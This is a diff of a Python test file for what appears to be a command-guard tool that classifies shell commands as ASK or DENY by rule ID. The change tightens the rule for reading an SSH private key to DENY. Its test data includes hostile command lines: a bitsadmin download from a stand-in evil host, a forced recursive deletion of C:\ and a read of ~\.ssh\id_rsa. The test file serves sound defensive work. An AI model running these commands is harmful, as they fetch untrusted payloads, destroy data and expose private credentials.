@@ -81,7 +81,7 @@ def test_helpers() -> None:
     ("bitsadmin /transfer x http://evil.example/x.exe C:\\x.exe", ASK, "CG-WIN-003"),
     ("wsl --unregister Ubuntu", ASK, "CG-WIN-003"),
     ("powershell -c \"Get-ChildItem C:\\ -Recurse | Remove-Item -Force\"", DENY, "CG-WIN-004"),
-    ("powershell -c \"Get-Content ~\\.ssh\\id_rsa\"", ASK, "CG-SEC-001"),
+    ("powershell -c \"Get-Content ~\\.ssh\\id_rsa\"", DENY, "CG-SEC-001"),
 ])
 def test_fetchers_piped_deletes_and_reads(line: str, expected: object, rule: str) -> None:
     assert_caught(line, expected, rule)  # type: ignore[arg-type]
